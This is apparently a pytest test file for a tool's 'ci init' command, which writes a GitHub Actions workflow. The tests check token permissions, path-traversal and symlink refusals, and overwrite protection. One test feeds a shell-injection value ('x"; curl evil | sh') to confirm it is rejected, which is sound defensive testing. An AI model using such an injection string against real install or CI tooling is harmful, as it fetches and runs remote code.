"""`evotree ci init`: the GitHub Actions workflow is valid, safe, and its report step really runs."""

from __future__ import annotations

import os
import subprocess
import sys
import sysconfig
from pathlib import Path
from typing import Any

import click
import pytest
import yaml
from conftest import ROOT, Cli, validate
from test_report import _Stub

from evotree.cli.main import cli as evotree_cli
from evotree.core.versions import create_version


def _workflow(path: Path) -> dict[str, Any]:
    doc = yaml.safe_load(path.read_text())
    doc["on"] = doc.pop(True, doc.get("on"))  # YAML 1.1 reads the key `on` as true
    return doc


URL_INSTALL = "evotree-rl[report] @ git+https://example.com/evotree.git@0123456789abcdef"


def test_ci_init_writes_a_workflow_whose_steps_run(ws: Any, run: Cli) -> None:
    result = run.json("ci", "init", "--install", URL_INSTALL)
    validate(result, "report-ci")
    path = Path(result["path"])
    assert (
        path == ws.root / ".github" / "workflows" / "evotree.yml" and result["action"] == "created"
    )
    doc = _workflow(path)
    assert set(doc["on"]) == {"pull_request"}  # never pull_request_target: forks get no write token
    assert doc["permissions"] == {"contents": "read", "pull-requests": "write", "issues": "write"}
    job = doc["jobs"]["evotree"]
    assert job["if"] == "startsWith(github.head_ref, 'evotree/')"
    steps = {s.get("name") or s["uses"]: s for s in job["steps"]}
    runs = "\n".join(s.get("run", "") for s in job["steps"])
    for command in ("evotree audit", "evotree diagnose", "evotree report", "refs/evotree/*"):
        assert command in runs
    # every evotree command the workflow calls that exists here is a real command
    for line in runs.splitlines():
        words = line.split()
        if words[:1] == ["evotree"] and words[1] != "audit":  # audit: the leak audit's command
            assert words[1] in evotree_cli.list_commands(click.Context(evotree_cli)), line
    post = steps["Report (Markdown, posted on the pull request)"]
    assert (
        post["env"] == {"GITHUB_TOKEN": "${{ secrets.GITHUB_TOKEN }}"} and post["if"] == "always()"
    )
    assert steps["Audit"]["continue-on-error"] is True
    assert steps["Fail when the audit failed"]["if"] == "steps.audit.outcome == 'failure'"
    # the report step, run by bash as Actions would, against a stub of the GitHub API
    create_version(ws, hypothesis="try something")
    token = "ci-token"
    with _Stub(token, {"evotree/v1": 3}) as stub:
        env = {
            **os.environ,
            "GITHUB_TOKEN": token,
            "GITHUB_REPOSITORY": "acme/recipes",
            "GITHUB_API_URL": stub.url,
            "GITHUB_HEAD_REF": "evotree/v1",
            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
        }
        script = steps["Version of this pull request"]["run"].replace('>> "$GITHUB_ENV"', "")
        version = subprocess.run(
            ["bash", "-c", script], env=env, capture_output=True, text=True
        ).stdout.strip()
        assert version == "EVOTREE_VERSION=v1"
        env["EVOTREE_VERSION"] = "v1"
        proc = subprocess.run(
            ["bash", "-c", post["run"]], cwd=ws.root, env=env, capture_output=True, text=True
        )
        assert proc.returncode == 0, proc.stderr
        assert "created comment" in proc.stdout and len(stub.comments[3]) == 1
        assert (ws.root / "evotree-report" / "report.md").is_file()


def test_ci_init_refuses_to_overwrite_and_bad_input(ws: Any, run: Cli, tmp_path: Path) -> None:
    # a bare name is resolved on the package index, where `evotree` is an unrelated project
    err = run.json("ci", "init", "--install", "evotree[report]==0.3", code=34)
    assert "unrelated project" in err["error"]["message"] and "--from" in err["error"]["fix"]
    err = run.json("ci", "init", "--install", "evotree-rl[report]", code=34)
    assert "on the index" in err["error"]["message"]
    # with no hint, the editable install of this checkout lies outside the workspace: refused, not guessed
    err = run.json("ci", "init", code=34)
    assert "cannot tell where CI can install evotree from" in err["error"]["message"]
    assert "--from" in err["error"]["fix"] and "evotree-rl" in err["error"]["fix"]
    assert not (ws.root / ".github").exists()
    first = run.json("ci", "init", "--install", URL_INSTALL)
    path = Path(first["path"])
    assert (
        f'EVOTREE_INSTALL: "{URL_INSTALL}"' in path.read_text() and first["install"] == URL_INSTALL
    )
    path.write_text("# edited by hand\n")
    err = run.json("ci", "init", "--install", URL_INSTALL, code=34)
    assert "already exists" in err["error"]["message"] and "--force" in err["error"]["fix"]
    assert path.read_text() == "# edited by hand\n"
    assert run.json("ci", "init", "--force", "--install", URL_INSTALL)["action"] == "overwritten"
    assert "evotree report" in path.read_text()
    err = run.json("ci", "init", "--force", "--install", 'x"; curl evil | sh', code=34)
    assert "plain pip requirement" in err["error"]["message"]
    err = run.json("ci", "init", "--path", "../outside.yml", "--install", URL_INSTALL, code=34)
    assert (
        "outside the repository" in err["error"]["message"]
        and not (ws.root.parent / "outside.yml").exists()
    )
    plain = tmp_path / "plain"
    plain.mkdir()
    Cli(plain)("ci", "init", code=3)


@pytest.mark.heavy
def test_ci_init_installs_from_the_checkout_with_the_domains_extras(tmp_path: Path) -> None:
    """The workflow installs evotree from a source folder inside the repository (here a vendored
    copy), with the gym domain's extras; its install step, run here as Actions would, installs it."""
    from conftest import make_repo
    from test_install import _copy_sources

    from evotree.api import init as evotree_init

    repo = make_repo(tmp_path / "repo")
    evotree_init(repo, domain="gym")
    _copy_sources(repo / "vendor" / "evotree")
    run = Cli(repo)
    err = run.json("ci", "init", "--from", "vendor", code=34)
    assert "no evotree source there" in err["error"]["message"]
    err = run.json("ci", "init", "--from", "../..", code=34)
    assert "outside the repository" in err["error"]["message"]
    (repo / "elsewhere").symlink_to(ROOT)  # a link that leads out of the repository is outside too
    assert (
        "outside the repository"
        in run.json("ci", "init", "--from", "elsewhere", code=34)["error"]["message"]
    )
    result = run.json("ci", "init", "--from", "vendor/evotree")
    assert result["install"] == "./vendor/evotree[report,gym]"
    doc = _workflow(Path(result["path"]))
    job = doc["jobs"]["evotree"]
    assert job["env"]["EVOTREE_INSTALL"] == "./vendor/evotree[report,gym]"
    step = next(s for s in job["steps"] if s.get("name") == "Install evotree")
    venv = tmp_path / "ci-venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    site = subprocess.run(
        [
            str(venv / "bin" / "python"),
            "-c",
            "import sysconfig; print(sysconfig.get_path('purelib'))",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    # dependencies come from this test's environment (no download); evotree from the checkout
    (Path(site) / "zz_test_dependencies.pth").write_text(sysconfig.get_path("purelib") + "\n")
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")}
    env.update(
        PATH=f"{venv / 'bin'}:/usr/bin:/bin",
        EVOTREE_INSTALL=job["env"]["EVOTREE_INSTALL"],
        PIP_NO_BUILD_ISOLATION="0",
        PIP_DISABLE_PIP_VERSION_CHECK="1",
        PIP_NO_INPUT="1",
    )
    proc = subprocess.run(
        ["bash", "-c", step["run"]], cwd=repo, env=env, capture_output=True, text=True, timeout=300
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    where = subprocess.run(
        [
            str(venv / "bin" / "python"),
            "-c",
            "import evotree.domains.gym, evotree; print(evotree.__file__)",
        ],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
    )
    assert where.returncode == 0 and str(venv) in where.stdout, where.stdout + where.stderr
    shown = subprocess.run(
        [str(venv / "bin" / "python"), "-m", "pip", "show", "evotree-rl"],
        env=env,
        capture_output=True,
        text=True,
    )
    assert "Name: evotree-rl" in shown.stdout
